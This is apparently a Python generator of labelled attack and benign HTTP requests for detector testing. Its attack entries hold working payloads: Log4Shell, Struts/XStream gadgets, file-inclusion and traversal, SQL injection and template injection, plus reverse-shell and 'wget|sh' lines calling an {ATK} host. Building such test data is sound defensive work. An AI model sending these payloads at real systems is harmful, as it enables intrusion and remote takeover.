X("lfi", "crushftp-cve-2024-4040",
  ("query", "<INCLUDE>/etc/passwd</INCLUDE>", get("/WebInterface/function/?command=zip&c2f=Kb2f&path={working_dir}"
                                                  "&names=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E")),
  ("query", "{working_dir}../../../sessions.obj", get("/WebInterface/function/?command=exists&c2f=Kb2f&paths="
                                                     "%7Bworking_dir%7D../../../sessions.obj")),
  ("query", "<INCLUDE>/etc/passwd</INCLUDE>", q("names", "<INCLUDE>/etc/passwd</INCLUDE>", more=[("command", "zip")])))

X("lfi", "solr-stream-url",
  ("query", "stream.url=file:///etc/passwd",
   get("/solr/core0/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd")),
  ("json", "set-property requestDispatcher.requestParsers.enableRemoteStreaming=true", jpost(
      "/solr/core0/config", {"set-property": {"requestDispatcher.requestParsers.enableRemoteStreaming": True}})),
  ("query", "stream.url=file:///etc/passwd", q("stream.url", "file:///etc/passwd", more=[("param", "ContentStreams")])))

# ===== RFI =================================================================================================

X("rfi", "wp-mail-masta",
  ("query", f"pl=http://{ATK}/shell.txt?",
   get(f"/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=http://{ATK}/shell.txt?")),
  ("query", f"pl=ftp://{ATK}/pub/c99.txt",
   get(f"/wp-content/plugins/mail-masta/inc/lists/csvexport.php?pl=ftp://{ATK}/pub/c99.txt")),
  ("query", f"pl=http://{ATK}/x.txt", q("pl", f"http://{ATK}/x.txt")))

X("rfi", "wp-gwolle-guestbook-cve-2015-8351",
  ("query", f"abspath=http://{ATK}/",
   get(f"/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?abspath=http://{ATK}/")),
  ("query", "abspath=https://attacker/wp-load.php?",
   get("/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php"
                                                         "?abspath=https://attacker.example/kit/")),
  ("query", f"abspath=http://{ATK}/", q("abspath", f"http://{ATK}/")))

X("rfi", "wp-with-spritz",
  ("query", "url=/../../../../etc/passwd",
   get("/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?url=/../../../../etc/passwd")),
  ("query", f"url=http://{ATK}/shell.txt",
   get(f"/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?url=http://{ATK}/shell.txt")),
  ("query", f"url=http://{ATK}/shell.txt", q("url", f"http://{ATK}/shell.txt?", more=[("spritz", "1")])))

X("rfi", "php-cgi-auto-prepend",
  ("query", f"-d allow_url_include=1 -d auto_prepend_file=http://{ATK}/x.txt",
   get(f"/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://{ATK}/x.txt")),
  ("query", f"%ADd allow_url_include=1 %ADd auto_prepend_file=http://{ATK}/x.txt",
   get(f"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dhttp://{ATK}/x.txt")),
  ("query", f"-d auto_prepend_file=http://{ATK}/x.txt",
   get(f"/api/users?-d+allow_url_include%3don+-d+auto_prepend_file%3dhttp://{ATK}/x.txt")))

X("rfi", "timthumb",
  ("query", "src=http://blogger.com.attacker.example/shell.php", get("/wp-content/themes/theme/timthumb.php?src=http://"
                                                                     "blogger.com.attacker.example/shell.php")),
  ("query", "src=http://picasa.com.attacker.example/x.php", get("/wp-content/themes/x/scripts/timthumb.php?src=http://"
                                                                "picasa.com.attacker.example/x.php&w=1")),
  ("query", "src=http://flickr.com.attacker.example/s.php", q("src", "http://flickr.com.attacker.example/s.php")))

X("rfi", "include-parameter",
  ("query", f"page=http://{ATK}/shell.txt?", q("page", f"http://{ATK}/shell.txt?")),
  ("query", f"file=https://{ATK}/c99.txt%00", get(f"/api/users?file=https://{ATK}/c99.txt%00")),
  ("form", f"template=http://{ATK}/r57.txt?", adm("template", f"http://{ATK}/r57.txt?")),
  ("query", "inc=\\\\attacker.example\\share\\shell.php", q("inc", "\\\\attacker.example\\share\\shell.php")),
  ("query", f"lang=http://{ATK}/en.php&cmd=id", get(f"/index.php?lang=http://{ATK}/en.php&cmd=id")))


# ===== more exploits =======================================================================================

X("java", "log4shell-body-fields",
  ("json", f"${{jndi:ldap://{OOB}/slack}}", slack(f"lookup user ${{jndi:ldap://{OOB}/slack}}")),
  ("form", f"${{jndi:ldap://{OOB}/oauth}}", oauth([("grant_type", "password"), ("username",
                                                                                f"${{jndi:ldap://{OOB}/oauth}}"),
                                                   ("client_id", "web-app")])),
  ("form", f"${{jndi:ldap://{OOB}/admin}}", adm("q", f"${{jndi:ldap://{OOB}/admin}}")),
  ("json", f"${{jndi:ldap://{OOB}/me}}", me("display_name", f"${{jndi:ldap://{OOB}/me}}")),
  ("query", f"${{jndi:ldap://{OOB}/verify}}", q("token", f"${{jndi:ldap://{OOB}/verify}}", "/verify_token", more=[])))

S052 = ('<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags>'
        '<value class="com.sun.xml.internal.bind.'
        'v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.'
        'XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher">'
        '<initialized>false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.FilterIterator">'
        '<iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class='
        '"java.lang.ProcessBuilder"><command><string>{cmd}</string></command><redirectErrorStream>false'
        '</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.'
        'lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter><next class='
        '"string">foo</next></serviceIterator><lock/></cipher><input class="java.lang.ProcessBuilder$NullInputStream"/>'
        '<ibuffer></ibuffer><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is>'
        '<consumed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value>'
        '</jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference="../jdk.'
        'nashorn.internal.objects.NativeString"/></entry></map>')
X("java", "struts2-s2-052-xstream",
  ("xml", "jdk.nashorn.internal.objects.NativeString ... ProcessBuilder", xpost(
      "/struts2-rest-showcase/orders/3", S052.replace("{cmd}", "touch /tmp/s2052"))),
  ("xml", "jdk.nashorn.internal.objects.NativeString ... ProcessBuilder", xpost(
      "/orders/3/edit", S052.replace("{cmd}", f"wget http://{ATK}/s"), method="PUT")),
  ("xml", "jdk.nashorn.internal.objects.NativeString ... ProcessBuilder", xpost("/api/users/42", S052.replace("{cmd}",
                                                                                                              "id"),
                                                                              method="PUT")),
  ("xml", "jdk.nashorn.internal.objects.NativeString ... ProcessBuilder", xpost("/api/users", S052.replace("{cmd}",
                                                                                                           "id"))))

XSTREAM = ('<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface>'
           '<handler class="java.beans.EventHandler">'
           '<target class="java.lang.ProcessBuilder"><command><string>{cmd}</string></command></target><action>start'
           '</action></handler></dynamic-proxy></sorted-set>')
X("java", "xstream-eventhandler",
  ("xml", "java.beans.EventHandler ProcessBuilder", xpost("/api/users", XSTREAM.replace("{cmd}", "id"))),
  ("xml", "java.beans.EventHandler ProcessBuilder", xpost("/admin/users/search", XSTREAM.replace("{cmd}", "calc"),
                                                          "text/xml")),
  ("xml", "java.beans.EventHandler ProcessBuilder", xpost("/me/settings", XSTREAM.replace("{cmd}", f"curl {ATK}/x"),
                                                          method="PUT")))

X("java", "vcenter-cve-2021-22005",
  ("query", "_i=/../../../../../../etc/cron.d/x", post(
      "/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../../etc/cron.d/x7q",
      f"* * * * * root nc -e /bin/sh {ATK} 4444\n", "application/json")),
  ("query", "_i=/stage/.../x.jsp", post("/analytics/telemetry/ph/api/hyper/send?_c=&_i=/stage/50/../../../../../../../"
                                       "usr/lib/vmware-sso/vmware-sts/webapps/ROOT/x.jsp", JSP_SHELL,
                                       "application/json")),
  ("query", "_i=/../../../../../../tmp/x", post("/api/users?_c=&_i=/../../../../../../tmp/x", "{}",
                                                "application/json")))

X("php", "phpmoadmin-eval",
  ("query", "object=1;system('id');exit", get("/moadmin.php?collection=saved_queries&object=1;system('id');exit")),
  ("query", "object=1;phpinfo();exit", get("/moadmin/moadmin.php?collection=x&object=1;phpinfo();exit")),
  ("query", "object=1;system('id');exit", q("object", "1;system('id');exit", more=[("collection", "saved_queries")])))

X("php", "symfony-fragment",
  ("query", "_path=_controller=system&command=id&return_value=null",
   get("/_fragment?_path=_controller%3Dsystem%26command%3Did%26return_value%3Dnull&_hash=Xnsvx%2FyLVQaimEd1CfepgH0rEXr422JnRSn%2FuYCONs%3D")),
  ("query", "_path=_controller=phpinfo&what=-1",
   get("/_fragment?_path=_controller%3Dphpinfo%26what%3D-1&_hash=pjl0JXkrW8pf%2Bq3mEZ1fm4bS3Ndd0oC5xMbUjf4EaFI%3D")),
  ("query", "_path=_controller=shell_exec&cmd=id",
   get("/api/_fragment?_path=_controller%3Dshell_exec%26cmd%3Did&_hash=AAAA")))

X("rce", "elfinder-cve-2021-32682",
  ("query", "name=-TvTT=id>shell.php # a.zip",
   get("/php/connector.minimal.php?cmd=archive&name=-TvTT=id>shell.php%20%23%20a.zip"
                                                  "&target=l1_Lw&targets%5B1%5D=l1_Mw&type=application%2Fzip")),
  ("query", "name=-TvTT=curl ...|sh # a.zip", get("/elfinder/php/connector.minimal.php?cmd=archive&name=-TvTT="
                                                 f"curl%20{ATK}%7Csh%20%23%20a.zip&target=l1_Lw&targets%5B0%5D=l1_Mw"
                                                 "&type=application%2Fzip")),
  ("query", "name=-TvTT=id>x # a.zip", q("name", "-TvTT=id>x # a.zip", more=[("cmd", "archive"), ("type",
                                                                                                  "application/zip")])))

LILIN = ('<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><SetConfiguration File="service.xml"><![CDATA['
         '<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><Service><NTP Enable="True" Interval="20" '
         'Server="time.nist.gov&{cmd};"/></Service></DVR>]]></SetConfiguration></DVR>')
X("rce", "lilin-dvr",
  ("xml", f"NTP Server=time.nist.gov&wget http://{ATK}/l -O- | sh;", xpost("/dvr/cmd", LILIN.replace(
      "{cmd}", f"wget http://{ATK}/l -O- | sh"), "text/xml", {"Authorization": "Basic cm9vdDppY2F0Y2g5OQ=="})),
  ("xml", "NTP Server=time.nist.gov&id;", xpost("/cn/cmd", LILIN.replace("{cmd}", "id"), "text/xml",
                                                {"Authorization": "Basic cm9vdDppY2F0Y2g5OQ=="})),
  ("xml", "NTP Server=time.nist.gov&id;", xpost("/api/users", LILIN.replace("{cmd}", "id"), "text/xml")))

X("rce", "vacron-nvr",
  ("query", f"cmd=cd /tmp;wget http://{ATK}/v;sh v", get(f"/board.cgi?cmd=cd+/tmp;wget+http://{ATK}/v;sh+v")),
  ("query", "cmd=cat /etc/passwd", get("/board.cgi?cmd=cat%20/etc/passwd")),
  ("query", "cmd=id", q("cmd", "id", "/api/users/42")))

EIR = ('<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
       'SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><SOAP-ENV:Body><u:SetNTPServers xmlns:u='
       '"urn:dslforum-org:service:Time:1"><NewNTPServer1>{cmd}</NewNTPServer1><NewNTPServer2></NewNTPServer2>'
       '<NewNTPServer3></NewNTPServer3><NewNTPServer4></NewNTPServer4><NewNTPServer5></NewNTPServer5>'
       '</u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>')
X("rce", "tr064-ntpserver",
  ("xml", f"`cd /tmp;wget http://{ATK}/1;chmod 777 1;./1`", xpost("/UD/act?1", EIR.replace(
      "{cmd}", f"`cd /tmp;wget http://{ATK}/1;chmod 777 1;./1`"), "text/xml",
      {"SOAPAction": "urn:dslforum-org:service:Time:1#SetNTPServers"})),
  ("xml", "$(id)", xpost("/UD/act?1", EIR.replace("{cmd}", "$(id)"), "text/xml",
                         {"SOAPAction": "urn:dslforum-org:service:Time:1#SetNTPServers"})),
  ("xml", "`busybox telnetd`", xpost("/api/users", EIR.replace("{cmd}", "`busybox telnetd`"), "text/xml",
                                     {"SOAPAction": "urn:dslforum-org:service:Time:1#SetNTPServers"})))

X("rce", "dlink-nas-cve-2024-3273",
  ("query", "system=aWQ= (base64 of id)", get("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=")),
  ("query", "system=base64(wget ... | sh)", get("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system="
                                               + b64(f"wget -O- http://{ATK}/n | sh"))),
  ("query", "system=Y2F0IC9ldGMvcGFzc3dk", q("system", "Y2F0IC9ldGMvcGFzc3dk", more=[("user", "messagebus"), ("cmd",
                                                                                                              "15")])))

X("sqli", "wp-automatic-cve-2024-27956",
  ("form", "q=SELECT * FROM wp_users&auth=\\0", form_raw("/wp-content/plugins/wp-automatic/inc/csv.php",
                                                          "q=SELECT+*+FROM+wp_users&auth=%00&integ=b4ba4b2c8e5f3bb5f8a7e0f6e1a4d2c9")),
  ("form", "q=INSERT INTO wp_users ...", form_raw("/wp-content/plugins/wp-automatic/inc/csv.php",
                                                  "q=INSERT+INTO+wp_users+(user_login,+user_pass,+user_email)+VALUES+"
                                                  "('eviladmin',+MD5('x'),+'e@attacker.example')&auth=%00&integ=0f1e2d")),
  ("form", "q=SELECT user_login,user_pass FROM wp_users", adm("q", "SELECT user_login,user_pass FROM wp_users",
                                                               [("auth", "\x00")])))

X("xss", "swagger-ui-configurl",
  ("query", "configUrl=https://attacker.example/xss.json",
   get("/swagger-ui/index.html?configUrl=https://attacker.example/xss.json")),
  ("query", "url=https://attacker.example/xss.yaml", get("/api/docs/?url=https://attacker.example/xss.yaml")),
  ("query", "configUrl=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
   get("/swagger-ui.html?configUrl=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")))

X("ssti", "pebble",
  ("query",
   "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
   ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
   ".newInstance(([bytes]).toArray()) }}",
   q("q", "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
          ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
          ".newInstance(([bytes]).toArray()) }}")),
  ("json", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
   js("bio", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}")),
  ("form", "{{ beans.get(\"jdbcTemplate\") }}", adm("q", "{{ beans.get(\"jdbcTemplate\") }}")))

X("ssti", "mako",
  ("query", "<% import os; x=os.popen('id').read() %>${x}", q("q", "<% import os; x=os.popen('id').read() %>${x}")),
  ("json", "${self.module.cache.util.os.system('id')}", js("name", "${self.module.cache.util.os.system('id')}")),
  ("form", "<%! import os %>${os.system('id')}", adm("q", "<%! import os %>${os.system('id')}")))

X("ssti", "nunjucks",
  ("query", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
   q("q", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}")),
  ("json", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
   js("bio", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}")),
  ("form", "{{range.constructor(\"return global.process.env\")()}}",
   adm("q", "{{range.constructor(\"return global.process.env\")()}}")))

X("ssti", "pug",
  ("query",
   "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
   q("q",
     "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}")),
  ("json", "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n= x.exec('id')",
   js("bio", "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n= x.exec('id')")),
  ("form", "#{7*7}", adm("q", "#{7*7}")))

X("lfi", "flink-cve-2020-17519",
  ("path", "/jobmanager/logs/..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd",
   get("/jobmanager/logs/..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd")),
  ("path", "/jobmanager/logs/..%252f..%252f..%252f..%252fopt%252fflink%252fconf%252fflink-conf.yaml",
   get("/jobmanager/logs/..%252f..%252f..%252f..%252fopt%252fflink%252fconf%252fflink-conf.yaml")),
  ("path", "/api/users/logs/..%252f..%252f..%252fetc%252fpasswd",
   get("/api/users/logs/..%252f..%252f..%252fetc%252fpasswd")))

X("lfi", "glassfish-overlong-utf8",
  ("path", "/theme/META-INF/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
   get("/theme/META-INF/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")),
  ("path", "/resource/file%3a///etc/passwd/", get("/resource/file%3a///etc/passwd/")),
  ("path", "/api/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
   get("/api/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")))

X("lfi", "nginx-alias-traversal",
  ("path", "/static../etc/passwd", get("/static../etc/passwd")),
  ("path", "/assets../.git/config", get("/assets../.git/config")),
  ("path", "/media../../../etc/passwd", get("/media../../../etc/passwd")))

X("generic", "crlf-injection",
  ("path", "/%0d%0aSet-Cookie:crlf=injection", get("/%0d%0aSet-Cookie:crlf=injection")),
  ("query", "\\r\\nSet-Cookie: crlf=injection", q("redirect", "/home\r\nSet-Cookie: crlf=injection",
                                                  "/auth/slack/callback")),
  ("path", "/api/users/%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection",
   get("/api/users/%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection")))

FCGI = ("gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00%01%04%00%01%01%04%04%00%0F%10SERVER"
        "_SOFTWAREgo%20/%20fcgiclient%20%0B%09REMOTE_ADDR127.0.0.1%0F%08SERVER_PROTOCOLHTTP/1.1%0E%02CONTENT_LENGTH58%0E"
        "%04REQUEST_METHODPOST%09KPHP_VALUEallow_url_include%20%3D%20On%0Adisable_functions%20%3D%20%0Aauto_prepend_file"
        "%20%3D%20php%3A//input%0F%17SCRIPT_FILENAME/var/www/html/index.php%0D%01DOCUMENT_ROOT/%00%00%00%00%01%04%00%01"
        "%00%00%00%00%01%05%00%01%00%3A%04%00%3C%3Fphp%20system%28%27id%27%29%3Bdie%28%27-----Made-by-SpyD3r-----%0A%27"
        "%29%3B%3F%3E%00%00%00%00")
X("generic", "ssrf-gopher-fastcgi",
  ("query", FCGI, q("url", FCGI)),
  ("json", FCGI, js("avatar_url", FCGI)),
  ("form", FCGI, adm("webhook", FCGI)))

X("generic", "ssrf-internal-apis",
  ("query", "http://127.0.0.1:2375/containers/json", q("url", "http://127.0.0.1:2375/containers/json")),
  ("json", "https://127.0.0.1:10250/run/kube-system/kube-proxy-x/kube-proxy?cmd=id",
   js("webhook", "https://127.0.0.1:10250/run/kube-system/kube-proxy-x/kube-proxy?cmd=id")),
  ("form", "http://localhost:8500/v1/agent/self", adm("url", "http://localhost:8500/v1/agent/self")),
  ("query", "http://127.0.0.1:2379/v2/keys/?recursive=true", q("feed", "http://127.0.0.1:2379/v2/keys/?recursive=true",
                                                               "/api/users/42")))


URI_OK = re.compile(r"^[\x21-\x7e]+$")
HEADER_BAD = re.compile(r"[\r\n\x00]")


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for category, sub, items in EXPLOITS:
        for placement, payload, req in items:
            n += 1
            headers = dict(req["headers"])
            if "User-Agent" not in headers:
                headers = {"User-Agent": SCANNER_UAS[n % len(SCANNER_UAS)], **headers}
            headers.setdefault("Accept-Encoding", "gzip, deflate")
            assert URI_OK.match(req["uri"]), req["uri"]
            assert not any(HEADER_BAD.search(k + v) for k, v in headers.items()), headers
            yield {"method": req["method"], "uri": req["uri"], "body": req["body"], "headers": headers,
                   "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub, "placement": placement,
                   "payload": payload}


# ===== benign ==============================================================================================

SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"
COOKIE = "session=3b9f1c7e5a2d4086b1e9f0a7c6d5e4b3; cookie_consent=accepted; _ga=GA1.1.1843920375.1717430000"
CLIENTS: list[dict[str, str]] = [
    {"User-Agent": CHROME, "Accept": "application/json, text/plain, */*", "Accept-Language": "en-US,en;q=0.9",
     "Accept-Encoding": "gzip, deflate, br, zstd", "Referer": "https://app.example.com/users?tab=active",
     "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"', "sec-ch-ua-mobile": "?0",
     "sec-ch-ua-platform": '"Windows"', "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors",
     "Sec-Fetch-Dest": "empty", "Cookie": COOKIE},
    {"User-Agent": FIREFOX, "Accept": "application/json", "Accept-Language": "de-DE,de;q=0.8,en-US;q=0.5,en;q=0.3",
     "Accept-Encoding": "gzip, deflate, br", "Referer": "https://app.example.com/admin/", "DNT": "1",
     "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty", "Cookie": COOKIE},
    {"User-Agent": SAFARI, "Accept": "application/json", "Accept-Language": "fr-FR,fr;q=0.9",
     "Accept-Encoding": "gzip, deflate, br", "Referer": "https://app.example.com/settings", "Cookie": COOKIE},
    {"User-Agent": IPHONE, "Accept": "*/*", "Accept-Language": "ja-JP,ja;q=0.9", "Accept-Encoding": "gzip, deflate, br",
     "Referer": "https://app.example.com/m/search", "Cookie": COOKIE},
    {"User-Agent": "okhttp/4.12.0", "Accept": "application/json", "Accept-Encoding": "gzip",
      "Authorization": "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIn0.eyJzdWIiOiJVMDQyIiwiZXhwIjoxNzE5MDAzNjAwfQ."
                       "c2lnbmF0dXJlLXBsYWNlaG9sZGVy",
     "X-Request-Id": "5c0e8f0a-7d34-4b8e-a3c2-1f9d6e2b7a41"},
    {"User-Agent": "Acme/5.3.1 (iPhone; iOS 17.5; Scale/3.00) CFNetwork/1494.0.7 Darwin/23.4.0",
     "Accept": "application/json", "Accept-Language": "en-GB;q=1.0, de-DE;q=0.9",
     "Accept-Encoding": "br;q=1.0, gzip;q=0.9",
     "X-App-Version": "5.3.1 (2291)"},
    {"User-Agent": "axios/1.7.2", "Accept": "application/json, text/plain, */*",
     "Accept-Encoding": "gzip, compress, deflate, br",
     "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
    {"User-Agent": "PostmanRuntime/7.39.0", "Accept": "*/*", "Accept-Encoding": "gzip, deflate, br",
     "Postman-Token": "0d6c1f7e-2b3a-4c59-8e1d-6a7b8c9d0e1f", "Cache-Control": "no-cache"},
    {"User-Agent": EDGE, "Accept": "application/json", "Accept-Language": "en-IN,en;q=0.9,hi;q=0.8",
     "Accept-Encoding": "gzip, deflate, br", "Referer": "https://app.example.com/tickets/new",
     "If-None-Match": 'W/"5e-1a2b3c4d"', "Cookie": COOKIE},
    {"User-Agent": "Dart/3.4 (dart:io)", "Accept": "application/json", "Accept-Encoding": "gzip",
     "X-Forwarded-For": "198.51.100.23, 10.0.3.17"},
    {"User-Agent": "python-requests/2.32.3", "Accept": "*/*", "Accept-Encoding": "gzip, deflate",
     "Authorization": "Bearer pat_7hF2kQ9xLmN4rT1vB8cW"},
    {"User-Agent": "curl/8.7.1", "Accept": "*/*"},
]


def client(i: int) -> dict[str, str]:
    return dict(CLIENTS[i % len(CLIENTS)])


def bget(uri: str, i: int) -> Req:
    return {"method": "GET", "uri": uri, "body": "", "headers": client(i)}


def bjson(uri: str, doc: Any, i: int, method: str = "POST") -> Req:
    return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
            "headers": {**client(i), "Content-Type": "application/json"}}


def bform(uri: str, pairs: list[tuple[str, str]], i: int) -> Req:
    h = client(i)
    h["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
    return {"method": "POST", "uri": uri, "body": urllib.parse.urlencode(pairs),
            "headers": {**h, "Content-Type": "application/x-www-form-urlencoded", "Origin": "https://app.example.com"}}


SLACK_TEXTS = [
    "Log4j is patched everywhere now, all services on log4j-core 2.17.1",
    "reminder: CVE-2021-44228 retro is Thursday at 3pm, bring your notes from the Log4Shell weekend",
    "we set LOG4J_FORMAT_MSG_NO_LOOKUPS=true as the stopgap back in December, it can come out of the helm chart now",
    "the JNDI lookup feature is disabled by default since 2.16, so the remaining risk is the old batch jobs",
    "Spring4Shell only hit Tomcat WAR deployments on JDK 9+, our jars are fine, but bump spring-beans anyway",
    "ticket: upgrade Struts to 2.5.33 in the legacy billing portal",
    "Struts 2 is end of life for the 2.3 line, the OGNL fixes only land in 2.5 and 6.x",
    "Confluence 7.18.1 upgrade done, CVE-2022-26134 closed for the wiki",
    "Atlassian advisory for CVE-2023-22527 says 8.5.4 and later are fine, we're on 8.5.6",
    "phpunit was accidentally shipped in the vendor dir of the marketing site, removed it with composer install "
    "--no-dev",
    "the ThinkPHP demo box is decommissioned, thanks Wei",
    "Drupal core 10.2.6 security release is out, Drupalgeddon was a long time ago but let's not wait",
    "Shellshock scanners are still hitting the old cgi-bin paths in the access logs, 10 years later",
    "Jackson default typing stays off; please don't enable enableDefaultTyping in the new service",
    "fastjson autotype is disabled in the Java SDK config, we moved to fastjson2 anyway",
    "Text4Shell (commons-text 1.10.0) bump is merged",
    "WebLogic is gone from prod since March, the wls-wsat alerts are scanner noise",
    "Jenkins script console is admin-only and behind SSO, see the runbook",
    "GitLab 16.0.8 upgrade tonight, the ExifTool issue was fixed ages ago but we're behind",
    "the F5 iControl REST interface is not exposed, checked with netops",
    "Citrix ADC firmware 13.1-49 applied by the network team",
    "FortiGate 7.2.5 is live on both firewalls",
    "Pulse Secure was replaced by the new ZTNA client last year",
    "Apache httpd 2.4.51 fixes the path traversal from 2.4.49, our reverse proxy runs 2.4.62",
    "ImageMagick policy.xml blocks MVG, MSL and URL coders in the thumbnailer",
    "Ghostscript is removed from the image processing container",
    "Elasticsearch dynamic scripting has been off since 1.4, don't worry about Groovy",
    "Redis has protected-mode on and requirepass set, and it only listens on the private subnet",
    "SSRF review: the webhook fetcher blocks 169.254.169.254 and the metadata hostnames",
    "IMDSv2 is enforced on all EC2 instances as of today",
    "XML parser hardening: external entities and DTDs disabled in the invoice importer",
    "prototype pollution fix: lodash 4.17.21 everywhere, npm audit is clean",
    "the Jinja2 sandbox is used for customer email templates, no raw render of user input",
    "Twig autoescape is on in the PHP admin, and templates come from the repo only",
    "Freemarker new() built-in is restricted via TemplateClassResolver.ALLOWS_NOTHING_RESOLVER",
    "Thymeleaf 3.1 blocks the __${...}__ preprocessing trick on request params, we're on 3.1.2",
    "WordPress marketing site: removed the RevSlider plugin, updated WP File Manager, Duplicator is gone",
    "Joomla 4.2.8 fixes the config API leak, the old intranet is on 4.4",
    "MOVEit Transfer is not used here, the vendor uses SFTP",
    "Magento 2.4.7-p1 has the CosmicSting fix, our shop is on hosted Adobe Commerce anyway",
    "vBulletin forum archive is static HTML now",
    "Laravel APP_DEBUG=false in production, Ignition isn't installed in prod",
    "phpMyAdmin is only reachable over the bastion, not the public internet",
    "PHP 8.3.8 fixes the CGI soft-hyphen issue on Windows, we run php-fpm on Linux so not affected",
    "Webmin is not installed on any of the new servers",
    "the Huawei and D-Link router exploits in the WAF logs are botnet noise, Mirai variants",
    "Bitbucket Server 8.9 upgrade removed the archive endpoint issue",
    "Cacti was replaced by Grafana + Prometheus",
    "Grafana 10.4 here, the plugin path traversal was fixed in 8.3.1",
    "SaltStack master is firewalled, the rest API is disabled",
    "Solr 9 has the VelocityResponseWriter removed entirely",
    "Apache OFBiz demo is only in the training lab",
    "Spring Cloud Function 3.2.3 fixes the routing expression SpEL issue, our functions are on 4.1",
    "Spring Cloud Gateway actuator endpoint is disabled in prod profiles",
    "the security team's WAF tuning notes are in Confluence under SEC/WAF",
    "nuclei scan of staging found nothing critical, two mediums about missing headers",
    "running the OWASP ZAP baseline in CI on every merge request now",
    "I added CVE IDs to the dependency dashboard so PMs can see the status",
    "can someone review my PR for the Log4j 2.23 bump? it also removes the log4j-1.2-api bridge",
    "Tomcat 10.1.25 fixes the partial PUT issue, we never enabled readonly=false anyway",
    "GeoServer isn't used by us, the GIS team uses the hosted service",
    "Nexus Repository 3.68 upgrade planned for the maintenance window",
    "Liferay is only on the old intranet which is being retired in Q3",
    "Shiro rememberMe is not used, we use our own session cookies",
    "JSF ViewState is encrypted on the legacy HR app",
    "the Next.js app is on 14.2.25 which has the middleware fix",
    "our APISIX admin key is rotated and the admin API binds to localhost",
    "Palo Alto GlobalProtect hotfix applied by netops over the weekend",
    "Cisco IOS XE web UI is disabled on all branch routers",
    "Ivanti Connect Secure is decommissioned, yay",
    "Zimbra is gone, mail moved to Google Workspace",
    "Exchange on-prem was retired after ProxyLogon, we're fully on M365",
    "CrushFTP is only used by the print shop partner, they patched",
